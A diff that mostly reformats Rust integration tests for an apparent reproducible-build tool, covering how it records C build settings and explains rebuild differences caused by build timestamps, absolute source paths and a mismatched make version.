-fn release_c(r: &Release, greet_c: &str, make_greet: Option<&str>, with: impl FnOnce(TestCommand) -> TestCommand) -> (std::path::PathBuf, std::path::PathBuf) {
+fn release_c(
+    r: &Release,
+    greet_c: &str,
+    make_greet: Option<&str>,
+    with: impl FnOnce(TestCommand) -> TestCommand,
+) -> (std::path::PathBuf, std::path::PathBuf) {
     let src = r.dir.join("c-src");
     c_project(&src, greet_c, make_greet);
     let cmd = TestCommand::vouch([
-        "release", "--source", src.to_str().unwrap(), "--name", "chello", "--version", "1.0.0", "--key", r.key.to_str().unwrap(), "--out",
-        r.bundles.to_str().unwrap(), "--no-git", "--exclude", "hello", "--exclude", "src/*.o", "--artifact", "hello", "--include-artifacts", "--", "make",
+        "release",
+        "--source",
+        src.to_str().unwrap(),
+        "--name",
+        "chello",
+        "--version",
+        "1.0.0",
+        "--key",
+        r.key.to_str().unwrap(),
+        "--out",
+        r.bundles.to_str().unwrap(),
+        "--no-git",
+        "--exclude",
+        "hello",
+        "--exclude",
+        "src/*.o",
+        "--artifact",
+        "hello",
+        "--include-artifacts",
+        "--",
+        "make",
     ])
     .env("CFLAGS", "-O2 -g")
     .env_remove("CC")
@@ -832,7 +1134,8 @@ fn c_copy(r: &Release, src: &Path) -> std::path::PathBuf {
 #[test]
 fn issue_15_a_c_project_with_debug_info_reproduces_bit_for_bit_in_another_directory() {
     let r = Release::new();
-    let (src, b) = release_c(&r, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| c);
+    let (src, b) =
+        release_c(&r, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| c);
     let m: serde_json::Value = serde_json::from_slice(&std::fs::read(b.join("manifest.json")).unwrap()).unwrap();
     let build = &m["build"];
     assert_eq!(build["env"]["CFLAGS"], "-O2 -g", "the vendor's flags, recorded as given");
@@ -850,10 +1153,17 @@ fn issue_15_a_c_project_with_debug_info_reproduces_bit_for_bit_in_another_direct
     // rebuild is refused before it runs.
     let r2 = Release::new();
     let fake = r2.dir.mkdir("vendor-bin");
-    std::fs::write(fake.join("make"), "#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'GNU Make 9.9'; else exec /usr/bin/make \"$@\"; fi\n").unwrap();
+    std::fs::write(
+        fake.join("make"),
+        "#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'GNU Make 9.9'; else exec /usr/bin/make \"$@\"; fi\n",
+    )
+    .unwrap();
     std::process::Command::new("chmod").args(["+x", fake.join("make").to_str().unwrap()]).status().unwrap();
     let path = format!("{}:{}", fake.display(), std::env::var("PATH").unwrap());
-    let (src2, b2) = release_c(&r2, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| c.env("PATH", &path));
+    let (src2, b2) =
+        release_c(&r2, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| {
+            c.env("PATH", &path)
+        });
     let work = r2.dir.mkdir("work");
     rebuild_cmd(&b2, &c_copy(&r2, &src2), &trust(&r2), &["--workdir", work.to_str().unwrap()])
         .run()
@@ -871,21 +1181,34 @@ fn causes(run: &vouch_tests::Run) -> Vec<(String, String, String)> {
         .cloned()
         .unwrap_or_default()
         .iter()
-        .map(|c| (c["kind"].as_str().unwrap().to_string(), c["side"].as_str().unwrap().to_string(), c["found"].as_str().unwrap().to_string()))
+        .map(|c| {
+            (
+                c["kind"].as_str().unwrap().to_string(),
+                c["side"].as_str().unwrap().to_string(),
+                c["found"].as_str().unwrap().to_string(),
+            )
+        })
         .collect()
 }
 
 #[test]
 fn issue_15_a_difference_names_its_cause_a_build_time() {
     let r = Release::new();
-    let (src, b) = release_c(&r, "#include \"greet.h\"\nconst char *greeting(void) { return \"built \" __DATE__ \" \" __TIME__; }\n", None, |c| {
-        c.env_remove("SOURCE_DATE_EPOCH")
-    });
+    let (src, b) = release_c(
+        &r,
+        "#include \"greet.h\"\nconst char *greeting(void) { return \"built \" __DATE__ \" \" __TIME__; }\n",
+        None,
+        |c| c.env_remove("SOURCE_DATE_EPOCH"),
+    );
     let copy = c_copy(&r, &src);
     // __TIME__ has a one-second resolution.
     std::thread::sleep(std::time::Duration::from_millis(1100));
     let human = rebuild_cmd(&b, &copy, &trust(&r), &[]).run();
-    human.code(1).says("likely cause: the rebuild embeds a build time").says("SOURCE_DATE_EPOCH").says("first difference at byte");
+    human
+        .code(1)
+        .says("likely cause: the rebuild embeds a build time")
+        .says("SOURCE_DATE_EPOCH")
+        .says("first difference at byte");
     forget_diffoscope(&human);
     let run = rebuild_cmd(&b, &copy, &trust(&r), &["--format", "json"]).run();
     run.code(1);
@@ -911,7 +1234,10 @@ fn issue_15_a_difference_names_its_cause_an_absolute_source_path() {
     let c = causes(&run);
     let canon = src.canonicalize().unwrap();
     assert!(c.contains(&("release_source_path".into(), "release".into(), canon.display().to_string())), "{c:?}");
-    assert!(c.iter().any(|(k, s, f)| k == "work_directory" && s == "rebuilt" && f.ends_with("/source/src/greet.c")), "{c:?}");
+    assert!(
+        c.iter().any(|(k, s, f)| k == "work_directory" && s == "rebuilt" && f.ends_with("/source/src/greet.c")),
+        "{c:?}"
+    );
     let human = rebuild_cmd(&b, &copy, &trust(&r), &[]).run();
     human
         .code(1)
